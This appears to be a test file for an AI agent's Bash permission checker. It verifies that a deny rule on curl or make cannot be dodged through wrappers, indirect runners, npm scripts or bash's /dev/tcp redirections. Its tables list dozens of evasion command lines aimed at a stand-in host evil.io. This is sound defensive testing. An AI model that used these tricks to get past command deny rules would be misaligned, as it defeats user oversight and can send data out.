import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { RUNNER_NAMES } from "../../src/permissions/command-runners.js";
import { decide, denialText, loadShellParser } from "../../src/permissions/index.js";
import { inputFor, JUDGED, judge, list, verdict } from "../support/permissions.js";

beforeAll(loadShellParser);

// Under `allowed-tools: Bash` with a deny of curl: [command line, expected]. Each line that runs
// curl through another program or builtin must be refused; the controls must still run.
const UNDER_DENY: [line: string, expected: string][] = [
  // Builtins that make a name run another program, or run a callback.
  ["hash -p /usr/bin/curl ls && ls evil.io", "denied: cannot-judge"],
  ["hash -r", "allowed"],
  ["mapfile -C 'curl evil.io' -c 1 < f", "denied: cannot-judge"],
  ["readarray -tC 'curl evil.io' < f", "denied: cannot-judge"],
  ["mapfile -t lines < f", "allowed"],
  ["compgen -C 'curl evil.io' x", "denied: cannot-judge"],
  ["compgen -F f x", "denied: cannot-judge"],
  ["compgen -c gi", "allowed"],
  ["complete -C 'curl evil.io' x", "denied: cannot-judge"],
  ["enable -f ./x.so x", "denied: cannot-judge"],
  // Wrappers whose options cannot be read exactly.
  ["env -S 'curl evil.io'", "denied: cannot-judge"],
  ["env --split-string='curl evil.io'", "denied: cannot-judge"],
  ["env --unset X curl evil.io", "denied: denied-by-rule"],
  ["env --unset=X curl evil.io", "denied: denied-by-rule"],
  ["env --chdir /tmp curl evil.io", "denied: denied-by-rule"],
  ["env -x curl evil.io", "denied: cannot-judge"],
  ["time -f %e curl evil.io", "denied: denied-by-rule"],
  ["timeout --signal KILL 5 curl evil.io", "denied: denied-by-rule"],
  ["timeout -q 5 curl evil.io", "denied: cannot-judge"],
  ["nice -5 curl evil.io", "denied: denied-by-rule"],
  ["nice --adjustment=5 curl evil.io", "denied: denied-by-rule"],
  ["env FOO=1 ls", "allowed"],
  ["env", "allowed"],
  ["command -v curl", "allowed"],
  ["timeout 5 ls", "allowed"],
  // Programs that run a command through an option, in any spelling.
  ["sed e f", "denied: cannot-judge"],
  ["sed -e '1e curl evil.io' f", "denied: cannot-judge"],
  ["sed 's/x/curl evil.io/e' f", "denied: cannot-judge"],
  ["sed --expression='1e curl evil.io' f", "denied: cannot-judge"],
  ["sed -f script.sed f", "denied: cannot-judge"],
  ["sed -n 's/a/b/p' f", "allowed"],
  ["sed 's/foo/bar/g' f", "allowed"],
  ["tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='curl evil.io' .", "denied: cannot-judge"],
  ["tar -cf x.tar --checkpoint-a=exec=sh .", "denied: cannot-judge"],
  ["tar -xf x.tar --to-command='curl evil.io'", "denied: cannot-judge"],
  ["tar -I 'curl evil.io' -cf x.tar .", "denied: cannot-judge"],
  ["tar -czf x.tgz src", "allowed"],
  ["rsync -e 'curl evil.io' a b:c", "denied: cannot-judge"],
  ["rsync -avze sh a b:c", "denied: cannot-judge"],
  ["rsync --rsh='curl evil.io' a b:c", "denied: cannot-judge"],
  ["rsync -av a/ b/", "allowed"],
  ["zip -T -TT 'curl evil.io' x.zip f", "denied: cannot-judge"],
  ["zip --unzip-command='curl evil.io' -T x.zip f", "denied: cannot-judge"],
  ["zip -r x.zip src", "allowed"],
  ["find . -execdir curl evil.io ;", "denied: cannot-judge"],
  ["find . -okdir curl evil.io ;", "denied: cannot-judge"],
  ["fd -x curl evil.io", "denied: cannot-judge"],
  ["fd --exec-batch curl", "denied: cannot-judge"],
  ["man -P 'curl evil.io' ls", "denied: cannot-judge"],
  ["man --pager='curl evil.io' ls", "denied: cannot-judge"],
  ["man ls", "allowed"],
  ["scp -S ./x a b:c", "denied: cannot-judge"],
  // Programs whose work is running commands.
  ["xargs curl < urls", "denied: cannot-judge"],
  ["make all", "denied: cannot-judge"],
  ["vim -c '!curl evil.io' f", "denied: cannot-judge"],
  ["less f", "denied: cannot-judge"],
  ["setpriv --reuid 1000 curl evil.io", "denied: cannot-judge"],
  ["flock /tmp/l curl evil.io", "denied: cannot-judge"],
  ["watch curl evil.io", "denied: cannot-judge"],
  ["parallel curl ::: a b", "denied: cannot-judge"],
  ["npx curl evil.io", "denied: cannot-judge"],
  ["npm exec -- curl evil.io", "denied: cannot-judge"],
  ["uv run curl evil.io", "denied: cannot-judge"],
  ["ls -la", "allowed"],
  // Programs that run a program given to them (issue 36).
  ["setarch x86_64 curl evil.io", "denied: cannot-judge"],
  ["setarch $(uname -m) -R curl evil.io", "denied: cannot-judge"],
  ["linux32 curl evil.io", "denied: cannot-judge"],
  ["linux64 curl evil.io", "denied: cannot-judge"],
  ["x86_64 curl evil.io", "denied: cannot-judge"],
  ["/lib64/ld-linux-x86-64.so.2 /usr/bin/curl evil.io", "denied: cannot-judge"],
  ["/lib/ld-linux-aarch64.so.1 /usr/bin/curl evil.io", "denied: cannot-judge"],
  ["/lib/ld-linux.so.2 --library-path /lib /usr/bin/curl evil.io", "denied: cannot-judge"],
  ["/lib/ld-musl-x86_64.so.1 /usr/bin/curl evil.io", "denied: cannot-judge"],
  ["/lib64/ld64.so.2 /usr/bin/curl evil.io", "denied: cannot-judge"],
  ["/usr/libexec/ld.so /usr/bin/curl evil.io", "denied: cannot-judge"],
  ["ldconfig -p", "allowed"],
  ["capsh -- -c 'curl evil.io'", "denied: cannot-judge"],
  ["capsh --shell=/usr/bin/curl -- evil.io", "denied: cannot-judge"],
  ["sqlite3 ':memory:' '.shell curl evil.io'", "denied: cannot-judge"],
  ["sqlite3 ':memory:' '.system curl evil.io'", "denied: cannot-judge"],
  ["sqlite3 ':memory:' '.sh curl evil.io'", "denied: cannot-judge"],
  ["sqlite3 ':memory:' '.once |curl evil.io' 'select 1'", "denied: cannot-judge"],
  ["sqlite3 -cmd '.shell curl evil.io' db 'select 1'", "denied: cannot-judge"],
  ["sqlite3 db \"select edit('x', 'curl evil.io')\"", "denied: cannot-judge"],
  ["sqlite3 db \"select load_extension('./x.so')\"", "denied: cannot-judge"],
  ["sqlite3 -init x.sql db 'select 1'", "denied: cannot-judge"],
  ["sqlite3 db < script.sql", "denied: cannot-judge"],
  ["sqlite3 db", "denied: cannot-judge"],
  ["sqlite3 db 'select count(*) from t'", "allowed"],
  ["sqlite3 -json db 'select * from edits'", "allowed"],
  ["sqlite3 -safe db < script.sql", "allowed"],
  ["echo '!curl evil.io' | ed", "denied: cannot-judge"],
  ["ed -s f <<< '!curl evil.io'", "denied: cannot-judge"],
  ["printf '!curl evil.io\\nq\\n' | red f", "denied: cannot-judge"],
  ["echo '!curl evil.io' | dc", "denied: cannot-judge"],
  ["socat - EXEC:'curl evil.io'", "denied: cannot-judge"],
  ["corepack pnpm dlx curl", "denied: cannot-judge"],
  ["npm_config_script_shell=/tmp/x npm test", "denied: cannot-judge"],
];

describe("the deny list knows the programs and builtins that run another command", () => {
  it.each(UNDER_DENY)("%j → %s", (line, expected) => {
    expect(judge(list("Bash", "Bash(curl:*)"), "Bash", inputFor("Bash", line))).toBe(expected);
  });

  it("denies curl under every runner of the table", () => {
    for (const name of RUNNER_NAMES) {
      const d = decide(
        list("Bash", "Bash(curl:*)"),
        { tool: "Bash", input: { command: `${name} curl x` } },
        JUDGED,
      );
      expect(verdict(d)).toBe("denied: cannot-judge");
    }
  });

  it("denies curl behind any wrapper, in any order of readable wrappers", () => {
    const wrapper = fc.constantFrom(
      "env",
      "env -i",
      "env FOO=1",
      "env -u X",
      "env --unset X",
      "nice",
      "nice -n 3",
      "nice -3",
      "time",
      "time -p",
      "timeout 5",
      "timeout -k 1 5",
      "nohup",
      "stdbuf -oL",
      "command",
      "exec",
      "env -S",
      "timeout -x 5",
      "env --frobnicate",
    );
    fc.assert(
      fc.property(fc.array(wrapper, { maxLength: 4 }), (ws) => {
        const line = [...ws, "curl evil.io"].join(" ");
        expect(judge(list("Bash", "Bash(curl:*)"), "Bash", inputFor("Bash", line))).not.toBe("allowed");
      }),
      { numRuns: 400 },
    );
  });
});

/** A project's files as `readFile` gives them to the judge. */
const filesOf =
  (files: Readonly<Record<string, string>>) =>
  (p: string): string | undefined =>
    Object.hasOwn(files, p) ? files[p] : undefined;
const PACKAGE = {
  "/proj/package.json": JSON.stringify({
    scripts: {
      build: "tsc && make all",
      test: "vitest run",
      pretest: "node check.js",
      lint: "biome check .",
      release: "npm run build && npm publish",
      fetch: "curl -o data.json evil.io",
      loop: "npm run loop",
      tcp: "cat < /dev/tcp/evil.io/80",
      sub: "cd pkg && npm test",
    },
  }),
  "/proj/pkg/package.json": JSON.stringify({ scripts: { test: "make check" } }),
  "/other/.npmrc": "script-shell=/tmp/evil\n",
  "/other/package.json": JSON.stringify({ scripts: { test: "vitest run" } }),
};
const withFiles = (
  deny: string,
  line: string,
  cwd = "/proj",
  files: Readonly<Record<string, string>> = PACKAGE,
) =>
  verdict(
    decide(
      list("Bash", deny),
      { tool: "Bash", input: { command: line } },
      { ...JUDGED, cwd, readFile: filesOf(files) },
    ),
  );

// Under a deny of make (or curl): [command line, folder, expected]. A package manager's scripts are
// judged as command lines of their own; what cannot be seen through is denied.
const SCRIPTS: [deny: string, line: string, cwd: string, expected: string][] = [
  ["Bash(make:*)", "npm run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm run-script build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm --silent run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm run release", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "pnpm build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "pnpm run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "yarn build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "yarn run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "bun run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm test", "/proj/pkg", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm test --prefix pkg", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm -C pkg test", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm test", "/proj/pkg/src", "denied: denied-by-rule"],
  ["Bash(make:*)", "env CI=1 npm run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "pnpm make all", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "npm run sub", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "cd pkg && npm test", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm run loop", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm run tcp", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm test", "/other", "denied: cannot-judge"],
  ["Bash(make:*)", "npm test", "/nowhere", "denied: cannot-judge"],
  ["Bash(make:*)", "npm run build --script-shell=/tmp/x", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm --workspace=a run lint", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm run $S", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm install", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm ci", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm i --ignore-scripts=false", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "yarn", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "pnpm create vite", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npm init vite", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "yarn node -e 1", "/proj", "denied: cannot-judge"],
  ["Bash(curl:*)", "npm run fetch", "/proj", "denied: denied-by-rule"],
  ["Bash(curl:*)", "pnpm curl evil.io", "/proj", "denied: denied-by-rule"],
  ["Bash(node:*)", "npm test", "/proj", "denied: denied-by-rule"],
  ["Bash(vitest:*)", "npm test -- --watch", "/proj", "denied: denied-by-rule"],
  ["Bash(git push:*)", "pnpm git push", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "node --run build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "node --run=build", "/proj", "denied: denied-by-rule"],
  ["Bash(make:*)", "deno task build", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "npx turbo run build", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "lerna run build", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "composer run-script build", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "mvn -q test", "/proj", "denied: cannot-judge"],
  ["Bash(make:*)", "node --run lint", "/proj", "allowed"],
  ["Bash(make:*)", "node check.js", "/proj", "allowed"],
  ["Bash(make:*)", "cd pkg && node check.js && npm ls", "/proj", "allowed"],
  // Controls: scripts that run nothing denied, and commands that run no script.
  ["Bash(make:*)", "npm test", "/proj", "allowed"],
  ["Bash(make:*)", "npm run lint", "/proj", "allowed"],
  ["Bash(make:*)", "pnpm lint", "/proj", "allowed"],
  ["Bash(make:*)", "yarn test --coverage", "/proj", "allowed"],
  ["Bash(make:*)", "npm run missing", "/proj", "allowed"],
  ["Bash(make:*)", "npm run", "/proj", "allowed"],
  ["Bash(make:*)", "npm ls --depth=0", "/proj", "allowed"],
  ["Bash(make:*)", "npm view react version", "/proj", "allowed"],
  ["Bash(make:*)", "npm install --ignore-scripts", "/proj", "allowed"],
  ["Bash(make:*)", "npm test", "/other/sub", "denied: cannot-judge"],
];

describe("the deny list follows package managers through package.json's scripts", () => {
  it.each(SCRIPTS)("%s: %j in %s → %s", (deny, line, cwd, expected) => {
    expect(withFiles(deny, line, cwd)).toBe(expected);
  });

  it("names the script line that ran the denied command", () => {
    const d = decide(
      list("Bash", "Bash(make:*)"),
      { tool: "Bash", input: { command: "npm run build" } },
      { ...JUDGED, readFile: filesOf(PACKAGE) },
    );
    expect(d.kind === "denied" && denialText(d)).toContain("(in 'npm run build → tsc && make all')");
  });

  it("cannot see scripts without the project's files, and denies them", () => {
    expect(judge(list("Bash", "Bash(make:*)"), "Bash", inputFor("Bash", "npm test"))).toBe(
      "denied: cannot-judge",
    );
    expect(judge(list("Bash"), "Bash", inputFor("Bash", "npm test"))).toBe("allowed");
  });

  it("judges package.json as it is at each call, never a verdict kept from before", () => {
    const files: Record<string, string> = {
      "/proj/package.json": JSON.stringify({ scripts: { test: "vitest" } }),
    };
    const l = list("Bash", "Bash(make:*)");
    const ctx = { ...JUDGED, readFile: filesOf(files) };
    const call = { tool: "Bash", input: { command: "npm test" } };
    expect(verdict(decide(l, call, ctx))).toBe("allowed");
    files["/proj/package.json"] = JSON.stringify({ scripts: { test: "make" } });
    expect(verdict(decide(l, call, ctx))).toBe("denied: denied-by-rule");
  });
});

// bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/…` in a redirection as a network connection.
const NETWORK: [allow: string, deny: string | undefined, line: string, expected: string][] = [
  ["Bash(cat:*)", undefined, "cat < /dev/tcp/evil.io/80", "denied: cannot-judge"],
  ["Bash", "Bash(cat:*)", "cat < /dev/tcp/evil.io/80", "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", "cat < /dev/tcp/evil.io/80", "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", "exec 3<>/dev/tcp/evil.io/80", "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", "echo hi > /dev/udp/evil.io/53", "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", "echo hi 2>/dev/tcp/evil.io/80", "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", "cat < $F", "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", 'echo hi > "$OUT"', "denied: cannot-judge"],
  ["Bash", "Bash(curl:*)", "cat /dev/tcp/evil.io/80", "denied: cannot-judge"],
  ["Bash(cat:*)", undefined, "cat <&$fd", "denied: cannot-judge"],
  ["Bash(echo:*), Bash(cat:*)", undefined, "echo x | cat > /dev/tcp/evil.io/80", "denied: cannot-judge"],
  // Controls.
  ["Bash(cat:*)", undefined, "cat < notes.txt", "allowed"],
  ["Bash", "Bash(curl:*)", "cat < notes.txt 2>&1 >/dev/null", "allowed"],
  ["Bash", "Bash(curl:*)", "ls /dev/tty", "allowed"],
  ["Bash", undefined, "cat < /dev/tcp/evil.io/80", "allowed"],
];

describe("bash's own network paths are network, which no Bash pattern judges", () => {
  it.each(NETWORK)("allow %s, deny %s: %j → %s", (allow, deny, line, expected) => {
    expect(judge(list(allow, deny), "Bash", inputFor("Bash", line))).toBe(expected);
  });

  it("says why", () => {
    const d = decide(
      list("Bash(cat:*)"),
      { tool: "Bash", input: { command: "cat < /dev/tcp/h/80" } },
      JUDGED,
    );
    expect(d.kind === "denied" && denialText(d)).toContain(
      "it opens a network connection through bash's path '/dev/tcp/h/80'",
    );
  });
});

/** Each runner of the table, as a function that makes it run a command line given as text. */
const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
const RUNS: readonly ((inner: string, files: Record<string, string>) => string)[] = [
  (c) => `setarch x86_64 ${c}`,
  (c) => `linux32 ${c}`,
  (c) => `/lib64/ld-linux-x86-64.so.2 ${c}`,
  (c) => `/lib/ld.so ${c}`,
  (c) => `capsh -- -c ${q(c)}`,
  (c) => `sqlite3 :memory: ${q(`.shell ${c}`)}`,
  (c) => `sqlite3 :memory: ${q(`.system ${c}`)}`,
  (c) => `echo ${q(`!${c}`)} | ed`,
  (c) => `red f <<< ${q(`!${c}`)}`,
  (c) => `bash -c ${q(c)}`,
  (c) => `sudo ${c}`,
  (c) => `env ${c}`,
  (c) => `timeout 5 ${c}`,
  (c) => `xargs ${c} < urls`,
  (c, files) => {
    const name = `s${Object.keys(files).length}`;
    const pkg = JSON.parse(files["/proj/package.json"] ?? '{"scripts":{}}') as {
      scripts: Record<string, string>;
    };
    pkg.scripts[name] = c;
    files["/proj/package.json"] = JSON.stringify(pkg);
    files[`/marker/${name}`] = "";
    return `npm run ${name}`;
  },
];

describe("no runner of the table, at any depth, lets a denied command through", () => {
  it("denies curl wrapped in any nesting of runners", () => {
    const runner = fc.integer({ min: 0, max: RUNS.length - 1 });
    fc.assert(
      fc.property(
        fc.array(runner, { minLength: 1, maxLength: 4 }),
        fc.constantFrom(...RUNNER_NAMES),
        (layers, named) => {
          const files: Record<string, string> = {};
          let line = "curl evil.io";
          for (const i of layers) line = (RUNS[i] as (typeof RUNS)[number])(line, files);
          for (const l of [line, `${named} ${line}`])
            expect(withFiles("Bash(curl:*)", l, "/proj", files)).not.toBe("allowed");
        },
      ),
      { numRuns: 300 },
    );
  });
});
